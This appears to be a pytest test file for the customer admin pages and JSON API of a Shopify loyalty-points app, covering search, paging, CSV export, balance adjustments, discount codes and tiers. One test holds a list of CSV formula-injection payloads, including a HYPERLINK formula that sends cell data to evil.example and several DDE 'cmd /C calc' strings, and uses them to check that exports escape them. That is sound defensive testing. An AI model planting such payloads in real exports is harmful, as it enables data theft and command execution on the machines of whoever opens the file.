"""Customers for the admin: a list found by part of a name or e-mail whatever its case and accents, filtered
by tier and segment, sorted, paged and downloaded; a customer's page with their ledger in words; balance
adjustments with a reason that never go below zero, and codes given by hand; the same in the JSON API."""

from __future__ import annotations

import csv
import io
import re
from datetime import date, timedelta

import pytest
import responses
from flask.testing import FlaskClient
from redis import Redis

from connector.db.storage import Storage
from connector.db.tables import CustomerRecord, OrderRecord, Push, Shop, utcnow
from connector.language.formats import day as written_day
from connector.ops import exports
from connector.ops.customers import segments
from connector.ops.shops import change_settings
from tests.support import AUTH, MailInbox, drain, form_csrf, login, paid_shopify_order, post_shopify

JOHN = "115310627314723954"


def text(response: object) -> str:
    return response.get_data(as_text=True)  # type: ignore[attr-defined]


@pytest.fixture
def admin(client: FlaskClient) -> FlaskClient:
    assert login(client).status_code == 302
    return client


@pytest.fixture
def crowd(offline_shopify_shop: Shop, storage: Storage) -> Shop:
    """A shop with 63 customers: "Üye 1" to "Üye 60", Şükrü Yılmaz, Ayşe Demir (Gold) and member Mary."""
    shop = offline_shopify_shop
    change_settings(storage, shop.id, {"tiers": [{"name": "Gold", "min_spend": "1000"}]})
    now = utcnow()
    with storage.session() as session:
        people = [CustomerRecord(shop_id=shop.id, key=str(n), platform_id=str(n), first_name="Üye", last_name=str(n),
                                 email=f"uye{n}@example.com", points=n) for n in range(1, 61)]  # fmt: skip
        people += [
            CustomerRecord(shop_id=shop.id, key="s", platform_id="s", first_name="Şükrü", last_name="Yılmaz",
                           email="sukru@example.com", points=5),
            CustomerRecord(shop_id=shop.id, key="a", platform_id="a", first_name="Ayşe", last_name="Demir",
                           email="ayse@example.com", points=9000, tier="Gold"),
            CustomerRecord(shop_id=shop.id, key="m", platform_id="m", first_name="Mary", last_name="Member",
                           email="MARY@example.com", points=0),
        ]  # fmt: skip
        session.add_all(people)
        session.flush()
        ayse = people[-2]
        for n, days in enumerate((400, 300, 200, 100, 5)):
            session.add(OrderRecord(shop_id=shop.id, order_id=f"a{n}", customer_id=ayse.id, paid=True,
                                    total=100, placed_at=now - timedelta(days=days)))  # fmt: skip
        session.add(OrderRecord(shop_id=shop.id, order_id="s0", customer_id=people[-3].id, paid=True, total=20,
                                placed_at=now - timedelta(minutes=3)))  # fmt: skip
    return shop


def names(html: str) -> list[str]:
    return [n.strip() for n in re.findall(r'<a href="/admin/shops/\d+/customers/\d+">([^<]+)</a>', html)]


def test_search_ignores_case_and_accents_and_finds_part_of_a_name_or_address(admin: FlaskClient, crowd: Shop) -> None:
    url = f"/admin/shops/{crowd.id}/customers"
    assert names(text(admin.get(url, query_string={"q": "sukru"}))) == ["Şükrü Yılmaz"]
    assert names(text(admin.get(url, query_string={"q": "AYSE dem"}))) == ["Ayşe Demir"]
    assert names(text(admin.get(url, query_string={"q": "mary@EXAMPLE"}))) == ["Mary Member"]
    assert "Üye 17" in names(text(admin.get(url, query_string={"q": "uye 17"})))
    assert names(text(admin.get(url, query_string={"q": "100%_"}))) == []


def test_the_list_pages_sorts_filters_and_says_how_many(admin: FlaskClient, crowd: Shop) -> None:
    url = f"/admin/shops/{crowd.id}/customers"
    first = text(admin.get(url, query_string={"q": "uye", "sort": "points", "dir": "desc"}))
    assert "1 to 50 of 60" in first and names(first)[:2] == ["Üye 60", "Üye 59"]
    second = text(admin.get(url, query_string={"q": "uye", "sort": "points", "dir": "desc", "page": "2"}))
    assert "51 to 60 of 60" in second and names(second)[-1] == "Üye 1" and "Page 2 of 2" in second
    assert names(text(admin.get(url, query_string={"tier": "Gold"}))) == ["Ayşe Demir"]
    assert len(names(text(admin.get(url, query_string={"tier": "none"})))) == 50  # 62 without a tier, first page

    before = text(admin.get(url, query_string={"segment": "new"}))
    assert "not yet for this shop" in before and names(before) == []
    counts = segments.roll_up(admin.application.extensions["sadakat"].storage, crowd.id)
    # Şükrü: one order minutes ago; Ayşe: five orders over 400 days (a gap of about 99), the last 5 days ago
    assert {name: n for name, n in counts.items() if n} == {"new": 1, "champions": 1}
    assert names(text(admin.get(url, query_string={"segment": "new"}))) == ["Şükrü Yılmaz"]
    listed = text(admin.get(url, query_string={"q": "şükrü"}))
    assert 'title="A first order, recently.">New<' in listed and "Segments as of" in listed


def test_the_filtered_list_downloads_as_csv(admin: FlaskClient, crowd: Shop) -> None:
    answer = admin.get(f"/admin/shops/{crowd.id}/customers.csv", query_string={"q": "uye 1"})
    assert answer.mimetype == "text/csv" and "attachment" in answer.headers["Content-Disposition"]
    rows = list(csv.reader(io.StringIO(text(answer))))
    assert rows[0] == ["customer", "first_name", "last_name", "email", "tier", "points", "segment", "last_order_at"]
    assert sorted(r[2] for r in rows[1:]) == sorted(["1", *(str(n) for n in range(10, 20))])


DANGEROUS_NAMES = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def test_the_csv_writes_names_a_spreadsheet_would_run_as_text(
    admin: FlaskClient, offline_shopify_shop: Shop, redis: Redis
) -> None:
    """Customers name themselves as formulas through the store (Shopify customers/create)."""
    shop = offline_shopify_shop
    for n, name in enumerate(DANGEROUS_NAMES):
        body = {"id": 900 + n, "email": f"evil{n}@example.com", "first_name": name, "last_name": "-5",
                "created_at": "2026-11-01T10:00:00-05:00", "state": "enabled"}  # fmt: skip
        post_shopify(admin, shop, "customers/create", body)
    drain(redis)
    rows = list(csv.reader(io.StringIO(text(admin.get(f"/admin/shops/{shop.id}/customers.csv")))))
    firsts = {row[1] for row in rows[1:]}
    assert firsts == {"'" + name.strip() for name in DANGEROUS_NAMES}  # the store's names come trimmed
    assert {row[2] for row in rows[1:]} == {"-5"}  # a plain number stays a number
    # what the store trims, a cell can still start with: every export writes cells through the same writer
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert exports.cell(start + "1+cmd") == "'" + start + "1+cmd"
    assert [exports.cell(v) for v in ("-500", "12.50", "Ayşe", None)] == ["-500", "12.50", "Ayşe", ""]


def test_the_api_lists_customers(client: FlaskClient, crowd: Shop) -> None:
    body = client.get(f"/admin/api/shops/{crowd.id}/customers?q=YILMAZ", headers=AUTH).get_json()
    assert (body["total"], body["pages"]) == (1, 1)
    assert body["customers"][0] | {} == body["customers"][0] and body["customers"][0]["email"] == "sukru@example.com"
    assert client.get(f"/admin/api/shops/{crowd.id}/customers").status_code == 401


@pytest.fixture
def john(client: FlaskClient, offline_shopify_shop: Shop, redis: Redis, storage: Storage) -> int:
    """John Smith with 404 points at a Shopify shop; returns his id."""
    post_shopify(client, offline_shopify_shop, "orders/paid", paid_shopify_order())
    drain(redis)
    with storage.session() as session:
        return session.query(CustomerRecord.id).filter_by(key=JOHN).scalar()  # type: ignore[no-any-return]


def test_an_admin_adjusts_a_balance_with_a_reason_and_never_below_zero(
    admin: FlaskClient, offline_shopify_shop: Shop, john: int
) -> None:
    url = f"/admin/shops/{offline_shopify_shop.id}/customers/{john}"
    page = text(admin.get(url))
    assert re.search(r"Order #\d+: \+404 points", page) and "1.00 başına" not in page
    token, key = form_csrf(page), re.search(r'name="key" value="([^"]+)"', page)[1]  # type: ignore[index]
    no_reason = admin.post(f"{url}/adjust", data={"csrf_token": token, "key": key, "points": "50", "reason": ""})
    assert no_reason.status_code == 400 and "Say why, in at most 200 characters." in text(no_reason)
    too_much = admin.post(f"{url}/adjust", data={"csrf_token": token, "key": key, "points": "-500", "reason": "x"})
    assert too_much.status_code == 400 and "That would take the balance below zero." in text(too_much)
    form = {"csrf_token": token, "key": key, "points": "-4", "reason": "Damaged parcel, refunded by hand"}
    assert admin.post(f"{url}/adjust", data=form).status_code == 302
    assert admin.post(f"{url}/adjust", data=form).status_code == 302  # the same form twice: once
    after = text(admin.get(url))
    assert "\u22124 points: the balance is now 400." in after
    assert re.search(r'id="balance">400<', after)
    assert "Damaged parcel, refunded by hand" in after and "admin pages (127.0.0.1)" in after
    assert "Adjustment: \u22124 points" in after and "by hand" in after


def test_adjustments_through_the_api(client: FlaskClient, offline_shopify_shop: Shop, john: int) -> None:
    url = f"/admin/api/shops/{offline_shopify_shop.id}/customers/{JOHN}/adjustments"
    body = {"points": 50, "reason": "Goodwill", "key": "ticket-77"}
    first = client.post(url, json=body, headers=AUTH)
    assert (first.status_code, first.get_json()["balance"]) == (201, 454)
    again = client.post(url, json=body, headers=AUTH)
    assert (again.status_code, again.get_json()["repeated"], again.get_json()["balance"]) == (200, True, 454)
    below = client.post(url, json={"points": -1000, "reason": "x", "key": "k2"}, headers=AUTH)
    assert below.status_code == 409 and "below zero" in below.get_json()["error"]
    assert client.post(url, json={"points": 5, "key": "k3"}, headers=AUTH).status_code == 400
    assert client.post(url, json={"points": 0, "reason": "x", "key": "k4"}, headers=AUTH).status_code == 400
    missing = f"/admin/api/shops/{offline_shopify_shop.id}/customers/nobody@example.com/adjustments"
    assert client.post(missing, json=body, headers=AUTH).status_code == 404


def test_an_admin_gives_a_code_from_the_customer_page(
    admin: FlaskClient, offline_shopify_shop: Shop, john: int, storage: Storage
) -> None:
    url = f"/admin/shops/{offline_shopify_shop.id}/customers/{john}"
    page = text(admin.get(url))
    token, key = form_csrf(page), re.search(r'name="key" value="([^"]+)"', page)[1]  # type: ignore[index]
    bad = admin.post(f"{url}/code", data={"csrf_token": token, "key": key, "kind": "percentage", "value": "250"})
    assert bad.status_code == 400 and "a percentage up to 100" in text(bad)
    form = {"csrf_token": token, "key": key, "kind": "fixed_amount", "value": "7.50", "days": "14"}
    assert admin.post(f"{url}/code", data=form).status_code == 302
    assert admin.post(f"{url}/code", data=form).status_code == 302
    with storage.session() as session:
        codes = [p.payload["code"] for p in session.query(Push).filter_by(kind="discount_code")]
    assert len(codes) == 1
    assert f"Code {codes[0]} is on its way" in text(admin.get(url))
    assert "Given by the shop" in text(admin.get(url))  # not "Gift": the shop gave it by hand


def test_a_goodwill_code_is_e_mailed_as_a_code_from_the_shop_not_as_points(
    client: FlaskClient, offline_shopify_shop: Shop, john: int, redis: Redis, smtp: MailInbox
) -> None:
    graphql = "https://sadakat-test.myshopify.com/admin/api/2026-01/graphql.json"
    responses.post(graphql, json={"data": {"codeDiscountNodeByCode": None}})
    node = {"codeDiscountNode": {"id": "gid://shopify/DiscountCodeNode/1"}, "userErrors": []}
    responses.post(graphql, json={"data": {"discountCodeBasicCreate": node}})
    codes = f"/admin/api/shops/{offline_shopify_shop.id}/customers/{JOHN}/codes"
    given = client.post(codes, json={"value": "5", "key": "sorry-1", "days": 30}, headers=AUTH).get_json()
    drain(redis)
    [letter] = [m for m in smtp.messages if given["code"] in m.content.decode()]
    body = letter.content.decode()
    assert "sends you a code" in body and "Your points are now" not in body


def test_the_overview_shows_each_programme_at_a_glance(
    admin: FlaskClient, offline_shopify_shop: Shop, john: int, storage: Storage, client: FlaskClient
) -> None:
    before = text(admin.get("/admin/"))
    assert re.search(r'<dd class="issued-month">404</dd>', before)
    assert "Active members, repeat purchase and codes as of" in before  # a small shop is rolled up on view
    codes = f"/admin/api/shops/{offline_shopify_shop.id}/customers/{JOHN}/codes"
    client.post(codes, json={"value": 5, "key": "k"}, headers=AUTH)
    segments.roll_up(storage, offline_shopify_shop.id)
    html = text(admin.get("/admin/"))
    glance = html[html.index(f'id="glance-{offline_shopify_shop.id}"') :]
    figures = dict(re.findall(r"<dt>([^<]+)</dt><dd[^>]*>([^<]+)</dd>", glance[: glance.index("</dl>")]))
    assert figures == {
        "Members": "1",
        "Active members (90 days)": "0",  # the sample order is from 2008
        "Points given this month": "404",
        "Points redeemed this month": "0",
        "Points not yet spent": "404",
        "Outstanding points&#39; value": "$4.04",
        "Repeat purchase rate": "0.0%",
        "Gift codes issued / used": "0 / 0",  # a code given by hand is no gift
    }
    assert "Active members, repeat purchase and codes as of" in html


def test_search_follows_a_changed_name_and_forgets_a_removed_customer(
    admin: FlaskClient, crowd: Shop, storage: Storage
) -> None:
    url = f"/admin/shops/{crowd.id}/customers"
    with storage.session() as session:
        sukru = session.query(CustomerRecord).filter_by(shop_id=crowd.id, key="s").one()
        sukru.first_name, sukru.last_name = "Gülşen", "Öztürk"
        session.query(CustomerRecord).filter_by(shop_id=crowd.id, key="m").delete()
    assert names(text(admin.get(url, query_string={"q": "gulsen ozt"}))) == ["Gülşen Öztürk"]
    assert names(text(admin.get(url, query_string={"q": "yilmaz"}))) == []
    assert names(text(admin.get(url, query_string={"q": "mary"}))) == []
    assert names(text(admin.get(url, query_string={"q": "sukru@"}))) == ["Gülşen Öztürk"]  # the address stayed


def test_an_admin_sets_a_tier_by_hand_until_a_day_with_a_reason(
    admin: FlaskClient, offline_shopify_shop: Shop, storage: Storage, john: int
) -> None:
    tiers = [{"name": "Silver", "min_spend": "300"}, {"name": "Gold", "min_spend": "700"}]
    change_settings(storage, offline_shopify_shop.id, {"tiers": tiers})
    url = f"/admin/shops/{offline_shopify_shop.id}/customers/{john}"
    page = text(admin.get(url))
    assert "Set the tier by hand" in page
    until = (utcnow().date() + timedelta(days=90)).isoformat()
    past = admin.post(f"{url}/tier", data={"csrf_token": form_csrf(page), "tier": "Gold", "until": "2001-01-01"})
    assert past.status_code == 400 and 'id="until-error">Enter a date from today on.' in text(past)
    form = {"csrf_token": form_csrf(page), "tier": "Gold", "until": until, "reason": "Moved from Smile as Gold"}
    assert admin.post(f"{url}/tier", data=form).status_code == 302
    after = text(admin.get(url))
    day = re.escape(written_day(date.fromisoformat(until), "en"))
    assert re.search(r'id="tier">Gold</strong> <small id="tier-kept">kept until ' + day, after)
    assert re.search(r"Gold until " + day, after)
    with storage.session() as session:
        member = session.get(CustomerRecord, john)
        assert member is not None and (member.tier, member.tier_kept_until.isoformat()) == ("Gold", until)
    audit = admin.get(f"/admin/api/shops/{offline_shopify_shop.id}/audit", headers=AUTH).get_json()
    assert any(
        e["action"] == "tier.set" and e["after"]["reason"] == "Moved from Smile as Gold" for e in audit["entries"]
    )
